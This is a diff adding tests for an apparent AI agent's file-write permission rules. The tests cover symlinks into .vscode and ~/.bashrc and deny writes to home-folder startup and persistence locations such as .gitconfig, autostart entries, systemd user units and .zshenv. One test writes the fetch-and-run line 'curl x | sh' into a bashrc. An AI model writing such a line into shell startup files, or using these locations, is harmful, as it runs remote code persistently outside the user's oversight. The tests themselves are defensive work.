@@ -90,6 +90,50 @@ describe('tools/writeFile', () => {
     await assert.rejects(run(writeFileTool, { file_path: '.vscode/tasks.json', content: '{}\n' }), /Denied by file\.execution_config_write: .*The user declined when asked/);
   });
 
+  it('shows a write reached through a protected link for review even where auto-approve matches it: .vscode -> cfg, then cfg/settings.json', async () => {
+    fs.mkdirSync(file('cfg'));
+    fs.symlinkSync('cfg', file('.vscode'));
+    withOptions({ settings: { autoApprove: { 'cfg/**': true } } });
+    await run(writeFileTool, { file_path: 'cfg/settings.json', content: '{}\n' });
+    assert.equal(workspace.applier.reviewed.length, 1, 'reviewed, not auto-approved');
+    assert.match(workspace.applier.reviewed[0].files[0].alwaysAsk ?? '', /^file\.execution_config_write: .*reached through .*\.vscode, a symbolic link/);
+    // Through the link's own path it is execution config as before.
+    await run(writeFileTool, { file_path: '.vscode/tasks.json', content: '{}\n' });
+    assert.match(workspace.applier.reviewed[1].files[0].alwaysAsk ?? '', /^file\.execution_config_write: /);
+    // A file next to it that no link leads to is auto-approved as the setting says.
+    withOptions({ settings: { autoApprove: { 'other/**': true } } });
+    await run(writeFileTool, { file_path: 'other/x.json', content: '{}\n' });
+    assert.equal(workspace.applier.reviewed.length, 2);
+  });
+
+  describe('the home folder\'s execution config', () => {
+    let home = '';
+    beforeEach(() => {
+      home = fs.mkdtempSync(path.join(os.tmpdir(), 'wat-home-'));
+    });
+    afterEach(() => fs.rmSync(home, { recursive: true, force: true }));
+
+    it('denies git\'s global config, autostart, systemd user units and ~/.local/bin at the high level, even where allowedWritePaths names home', async () => {
+      withOptions({ settings: { riskLevel: 'high', allowedWritePaths: [home] }, workspace: { home } });
+      for (const name of ['.gitconfig', '.config/git/config', '.config/autostart/x.desktop', '.config/systemd/user/x.service', '.local/bin/git', '.zshenv', '.config/fish/config.fish']) {
+        await assert.rejects(run(writeFileTool, { file_path: path.join(home, name), content: 'x\n' }), /Denied by file\.sensitive_path_write: .*runs programs outside any sandbox/, name);
+        assert.equal(fs.existsSync(path.join(home, name)), false, name);
+      }
+      await run(writeFileTool, { file_path: path.join(home, 'notes.txt'), content: 'x\n' });
+      assert.equal(fs.readFileSync(path.join(home, 'notes.txt'), 'utf8'), 'x\n');
+    });
+
+    it('asks for the file a home entry links to: ~/.bashrc -> a file of the workspace', async () => {
+      fs.mkdirSync(file('dotfiles'));
+      fs.writeFileSync(file('dotfiles/bashrc'), '# bashrc\n');
+      fs.symlinkSync(file('dotfiles/bashrc'), path.join(home, '.bashrc'));
+      withOptions({ settings: { autoApprove: { 'dotfiles/**': true } }, workspace: { home } });
+      await read('dotfiles/bashrc');
+      await run(writeFileTool, { file_path: 'dotfiles/bashrc', content: 'curl x | sh\n' });
+      assert.match(workspace.applier.reviewed[0]?.files[0].alwaysAsk ?? '', /^file\.execution_config_write: .*reached through .*\.bashrc/);
+    });
+  });
+
   it('denies writes into .git with the rule id', async () => {
     fs.mkdirSync(file('.git'));
     await assert.rejects(run(writeFileTool, { file_path: '.git/HEAD', content: 'x' }), /Denied by file\.protected_file_overwrite/);
